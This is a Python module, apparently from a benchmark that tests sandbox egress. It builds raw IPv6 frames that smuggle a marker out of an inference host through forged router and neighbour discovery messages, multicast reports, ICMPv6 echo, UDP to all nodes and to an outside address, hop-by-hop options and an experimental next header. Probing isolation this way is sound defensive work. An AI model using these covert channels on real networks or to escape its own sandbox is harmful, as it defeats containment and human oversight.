"""IPv6: link-local, router and neighbour discovery, multicast, and by way of the sidecar's host."""

from collections.abc import Callable
from ipaddress import IPv6Address

from benchmarks.ways_out.attacker import Attacker, Try, framed
from benchmarks.ways_out.frames import ETH_IPV6, ethernet, icmp6, ipv6, udp6
from benchmarks.ways_out.site import INFERENCE6, SIDECAR6, WORLD6

_ALL_NODES = IPv6Address("ff02::1")
_INFERENCE_GLOBAL = IPv6Address("2001:db8:2::2")
_HOP_BY_HOP, _UDP, _EXPERIMENT = 0, 17, 253
_ROUTERS, _NEIGHBOURS, _OTHERS = "router_advertisements", "neighbour_discovery", "ipv6_packets"


def _all_nodes(attacker: Attacker, packet: bytes) -> bytes:
    return ethernet(b"\x33\x33\0\0\0\x01", attacker.site.inference_mac, ETH_IPV6, packet)


def _discovery(name: str, counter: str, kind: int, body: Callable[[bytes], bytes]) -> Try:
    """A message of router or neighbour discovery to all nodes."""
    return framed(
        name,
        counter,
        lambda attacker, marker: _all_nodes(attacker, icmp6(INFERENCE6, _ALL_NODES, kind, body(marker))),
    )


def _datagram(source: IPv6Address, destination: IPv6Address, marker: bytes) -> bytes:
    return ipv6(source, destination, _UDP, udp6(source, destination, (4433, 4433), marker))


def _echo(attacker: Attacker, marker: bytes) -> bytes:
    return attacker.to_sidecar(icmp6(INFERENCE6, SIDECAR6, 128, b"\0\0\0\0" + marker), ETH_IPV6)


def _behind_options(attacker: Attacker, marker: bytes) -> bytes:
    options = bytes([_UDP, 0, 1, 4, 0, 0, 0, 0])
    datagram = udp6(INFERENCE6, SIDECAR6, (4433, 4433), marker)
    return attacker.to_sidecar(ipv6(INFERENCE6, SIDECAR6, _HOP_BY_HOP, options + datagram), ETH_IPV6)


IPV6 = (
    _discovery(
        "router advertisement, with a prefix",
        _ROUTERS,
        134,
        lambda marker: b"\x40\0\0\0" + bytes(8) + b"\x03\x04\x40\0" + bytes(12) + b"\x20\x01\x0d\xb8" + marker,
    ),
    _discovery("router solicitation", _ROUTERS, 133, lambda marker: bytes(4) + b"\x0e\x02" + marker + b"\0\0"),
    _discovery(
        "neighbour solicitations, data in the address that is asked for",
        _NEIGHBOURS,
        135,
        lambda marker: bytes(4) + b"\x20\x01\x0d\xb8" + marker,
    ),
    _discovery(
        "neighbour advertisement", _NEIGHBOURS, 136, lambda marker: b"\x20\0\0\0" + b"\x20\x01\x0d\xb8" + marker
    ),
    _discovery("multicast listener report", _OTHERS, 131, lambda marker: bytes(4) + b"\xff\x02\0\0" + marker),
    framed("echo to the link-local address of the sidecar's host", _OTHERS, _echo),
    framed(
        "UDP to all nodes of the link",
        _OTHERS,
        lambda attacker, marker: _all_nodes(attacker, _datagram(INFERENCE6, _ALL_NODES, marker)),
    ),
    framed(
        "UDP over IPv6 to the world",
        _OTHERS,
        lambda attacker, marker: attacker.to_sidecar(_datagram(_INFERENCE_GLOBAL, WORLD6, marker), ETH_IPV6),
    ),
    framed("UDP behind hop-by-hop options", _OTHERS, _behind_options),
    framed(
        "IPv6, next header 253",
        _OTHERS,
        lambda attacker, marker: attacker.to_sidecar(ipv6(INFERENCE6, SIDECAR6, _EXPERIMENT, marker), ETH_IPV6),
    ),
)
